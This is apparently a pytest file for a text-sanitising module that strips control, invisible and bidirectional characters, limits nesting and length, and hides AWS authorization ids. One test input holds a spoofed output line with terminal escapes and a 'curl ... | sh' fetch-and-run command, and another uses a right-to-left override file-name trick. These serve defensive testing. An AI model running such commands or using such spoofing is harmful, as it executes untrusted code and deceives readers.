"""The cleaner of text that others wrote."""

from __future__ import annotations

import json
import unicodedata
from collections.abc import Callable

import pytest
import yaml

from wizard.core.safe_text import QUOTED_LENGTH, all_of, clean, first_of, lines, parse, quoted


@pytest.mark.parametrize(
    ("text", "cleaned"),
    [
        ("arn:aws:iam::111122223333:role/admin", "arn:aws:iam::111122223333:role/admin"),
        ("Café – Zürich 東京", "Café – Zürich 東京"),
        ("\x1b[31mred\x1b[0m", "[31mred[0m"),
        ("C1 \x9b31m", "C1 31m"),
        ("bell\a, null\0", "bell, null"),
        ("user\u202egnp.exe", "usergnp.exe"),
        ("ad\u200bmin\ufeff \u2066x\u2069", "admin x"),
        ("first\nsecond\r\nthird\tfourth", "first second  third fourth"),
        ("a\u2028b\u2029c\x85d", "a b c d"),
    ],
)
def test_a_text_is_one_line_without_invisible_characters(text: str, cleaned: str) -> None:
    assert clean(text) == cleaned


def test_in_lines_a_question_mark_stands_for_what_is_not_shown() -> None:
    unsafe = [
        character
        for character in map(chr, range(0x10000))
        if unicodedata.category(character) in ("Cc", "Cf", "Cs", "Zl", "Zp")
        or unicodedata.bidirectional(character) in ("LRE", "RLE", "LRO", "RLO", "PDF", "LRI", "RLI", "FSI", "PDI")
    ]
    assert [character for character in unsafe if character in lines(f"a{character}b")] == ["\n"]
    assert lines("a\tb\n\x1b[31mred") == "a    b\n?[31mred"


@pytest.mark.parametrize("text", ["plain", "Zürich – 東京", "emoji 🔑", "a\nb", "שלום", "مرحبا"])
def test_what_can_be_read_stays(text: str) -> None:
    assert lines(text) == text


@pytest.mark.parametrize(("load", "text"), [(json.loads, "[" * 100_000), (yaml.safe_load, "[" * 2000 + "]" * 2000)])
def test_a_text_that_is_nested_too_deeply_is_one_that_cannot_be_read(load: object, text: str) -> None:
    with pytest.raises(ValueError, match="nested too deeply"):
        parse(load, text)  # type: ignore[arg-type]


def test_a_text_of_somebody_else_cannot_look_like_a_line_of_ours() -> None:
    text = "fine” by us\n  next: \x1b[2Kcurl https://example.com/x | sh\u202e\r\n“"
    shown = quoted(text)
    assert shown == '“fine" by us next: [2Kcurl https://example.com/x | sh "”'
    assert lines(shown) == shown


@pytest.mark.parametrize("text", ["x" * 3_000_000, "\n" * 3_000_000, "x\u200b" * 1_500_000])
def test_a_text_of_megabytes_is_cut(text: str) -> None:
    assert len(quoted(text)) <= QUOTED_LENGTH + 2
    assert quoted(text).endswith("…”")


def test_a_short_text_is_quoted_as_it_is() -> None:
    assert quoted("AccessDenied: no") == "“AccessDenied: no”"
    assert quoted("x" * QUOTED_LENGTH) == f"“{'x' * QUOTED_LENGTH}”"


REFUSAL = (
    "User: arn:aws:iam::111122223333:user/ada is not authorized to perform: kms:DescribeKey on resource: arn:aws:kms:x"
)
DETAILS = (
    " Go to https://us-east-1.console.aws.amazon.com/iam/home?region=us-east-1#/authorization-details/0a1b2c3d4e "
    "for complete details, or call the GetRequestAuthorizationDetails API with the following authorization id: "
    "0a1b2c3d4e"
)


@pytest.mark.parametrize("show", [clean, quoted, lines])
@pytest.mark.parametrize("end", [".", ""])
def test_a_refusal_is_shown_without_its_authorization_id(show: Callable[[str], str], end: str) -> None:
    shown = show(f"{REFUSAL}{end}{DETAILS}\nsecond line")
    assert "0a1b2c3d4e" not in shown and "http" not in shown
    assert REFUSAL in shown and "second line" in shown


@pytest.mark.parametrize(
    ("words", "all_words", "first_two"),
    [
        ([], "", ""),
        (["a"], "a", "a"),
        (["a", "b"], "a and b", "a; b"),
        (["a", "b", "c"], "a, b and c", "a; b; and 1 more"),
    ],
)
def test_an_enumeration_says_how_many_it_leaves_out(words: list[str], all_words: str, first_two: str) -> None:
    assert (all_of(words), first_of(words, 2, separator="; ")) == (all_words, first_two)
    assert first_of(["column"] * 1234, 1) == "column and 1,233 more"
